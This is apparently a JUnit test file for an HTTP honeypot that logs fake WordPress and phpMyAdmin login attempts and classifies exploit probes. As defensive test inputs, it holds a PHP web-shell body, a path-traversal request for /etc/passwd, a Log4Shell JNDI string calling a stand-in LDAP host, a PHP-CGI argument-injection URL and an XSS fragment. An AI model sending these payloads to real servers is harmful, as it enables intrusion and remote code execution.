package dev.bulwark.deception.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.bulwark.deception.Honeypot;
import dev.bulwark.deception.config.HoneypotConfig;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class HttpHoneypotTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final HttpClient CLIENT = HttpClient.newHttpClient();

  private static HttpResponse<String> get(int port, String path, String agent) throws Exception {
    return CLIENT.send(
        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
            .header("User-Agent", agent)
            .build(),
        HttpResponse.BodyHandlers.ofString());
  }

  private static HttpResponse<String> post(int port, String path, String form) throws Exception {
    return CLIENT.send(
        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .POST(HttpRequest.BodyPublishers.ofString(form))
            .build(),
        HttpResponse.BodyHandlers.ofString());
  }

  private static List<JsonNode> events(Path file) throws Exception {
    List<JsonNode> out = new ArrayList<>();
    for (String l : Files.readAllLines(file)) {
      out.add(JSON.readTree(l));
    }
    return out;
  }

  private static List<JsonNode> of(List<JsonNode> ev, String id) {
    return ev.stream().filter(e -> e.get("eventid").asText().equals(id)).toList();
  }

  @Test
  void theDecoyListensOnLoopbackUnlessToldOtherwise(@TempDir Path dir) {
    assertThat(HoneypotConfig.defaults(dir).bind()).isEqualTo("127.0.0.1");
  }

  @Test
  void logInPages_recordCredentialsAsCowrieLogins_andNeverSucceed(@TempDir Path dir)
      throws Exception {
    HoneypotConfig c = HoneypotConfig.defaults(dir).withPorts(-1, -1, 0);
    try (Honeypot h = Honeypot.start(c)) {
      int port = h.httpPort();
      HttpResponse<String> page = get(port, "/wp-login.php", "Mozilla/5.0");
      assertThat(page.statusCode()).isEqualTo(200);
      assertThat(page.headers().firstValue("Server")).hasValue("nginx/1.22.1");
      assertThat(page.body()).contains("name=\"log\"").contains("name=\"pwd\"");
      for (String pw : List.of("admin", "123456", "wordpress")) {
        HttpResponse<String> r = post(port, "/wp-login.php", "log=admin&pwd=" + pw);
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(r.body()).contains("Invalid username or password").doesNotContain(pw + "<");
      }
      HttpResponse<String> pma =
          post(port, "/phpmyadmin/index.php", "pma_username=root&pma_password=toor&server=1");
      assertThat(pma.body()).contains("Invalid username or password");
    }
    List<JsonNode> ev = events(dir.resolve("events.json"));
    List<JsonNode> logins = of(ev, "cowrie.login.failed");
    assertThat(logins).hasSize(4);
    assertThat(logins)
        .allSatisfy(e -> {
          assertThat(e.get("protocol").asText()).isEqualTo("http");
          assertThat(e.get("src_ip").asText()).isEqualTo("127.0.0.1");
          assertThat(e.has("session") && e.has("timestamp") && e.has("dst_port")).isTrue();
        });
    assertThat(logins.get(0).get("username").asText()).isEqualTo("admin");
    assertThat(logins.get(0).get("password").asText()).isEqualTo("admin");
    assertThat(logins.get(3).get("username").asText()).isEqualTo("root");
    assertThat(logins.get(3).get("password").asText()).isEqualTo("toor");
    assertThat(of(ev, "cowrie.login.success")).isEmpty();
    assertThat(of(ev, "bulwark.http.request")).hasSize(5);
  }

  @Test
  void exploitProbes_areNamedWithTheirUrlAndBodyHash_andNothingIsReflected(@TempDir Path dir)
      throws Exception {
    String body = "<?php system($_GET['c']); ?>";
    try (Honeypot h = Honeypot.start(HoneypotConfig.defaults(dir).withPorts(-1, -1, 0))) {
      int port = h.httpPort();
      HttpResponse<String> env = get(port, "/.env", "zgrab/0.x");
      assertThat(env.statusCode()).isEqualTo(404);
      assertThat(env.body()).doesNotContain(".env");
      HttpResponse<String> traversal =
          get(port, "/static/..%2f..%2f..%2fetc%2fpasswd?%3Cscript%3Ex%3C/script%3E", "curl/8");
      assertThat(traversal.statusCode()).isEqualTo(404);
      assertThat(traversal.body()).doesNotContain("passwd", "script");
      HttpResponse<String> jndi = get(port, "/", "${jndi:ldap://203.0.113.9/a}");
      assertThat(jndi.statusCode()).isEqualTo(200);
      assertThat(jndi.body()).doesNotContain("jndi");
      post(port, "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", body);
      get(port, "/favicon.ico", "Mozilla/5.0");
    }
    List<JsonNode> probes = of(events(dir.resolve("events.json")), "bulwark.http.probe");
    assertThat(probes)
        .extracting(e -> e.get("probe").asText())
        .containsExactly("dotenv", "path-traversal", "log4shell", "php-code-injection");
    assertThat(probes.get(1).get("url").asText())
        .isEqualTo("/static/..%2f..%2f..%2fetc%2fpasswd?%3Cscript%3Ex%3C/script%3E");
    assertThat(probes.get(2).get("user_agent").asText()).isEqualTo("${jndi:ldap://203.0.113.9/a}");
    String sha =
        HexFormat.of()
            .formatHex(
                MessageDigest.getInstance("SHA-256")
                    .digest(body.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
    assertThat(probes.get(3).get("body_sha256").asText()).isEqualTo(sha);
    assertThat(probes.get(3).get("body_size").asLong()).isEqualTo(body.length());
  }

  @Test
  void theSiteNameIsEscaped_andBodiesAreReadOnlyUpToTheCap(@TempDir Path dir) throws Exception {
    HoneypotConfig c =
        new HoneypotConfig(
            "debian-12",
            "127.0.0.1",
            dir,
            null,
            -1,
            -1,
            0,
            "Router <script>alert(1)</script> & \"admin\"",
            HoneypotConfig.defaultAccept(),
            dev.bulwark.deception.config.Limits.defaults());
    try (Honeypot h = Honeypot.start(c)) {
      HttpResponse<String> login = get(h.httpPort(), "/login", "x");
      assertThat(login.body())
          .contains("Router &lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;admin&quot;")
          .doesNotContain("<script>");
      assertThat(login.headers().firstValue("Content-Security-Policy")).isPresent();
      post(h.httpPort(), "/upload", "A".repeat(1 << 20));
    }
    JsonNode big =
        of(events(dir.resolve("events.json")), "bulwark.http.request").stream()
            .filter(e -> e.get("url").asText().equals("/upload"))
            .findFirst()
            .orElseThrow();
    assertThat(big.get("body_size").asLong()).isEqualTo(HttpHoneypot.MAX_BODY);
  }
}
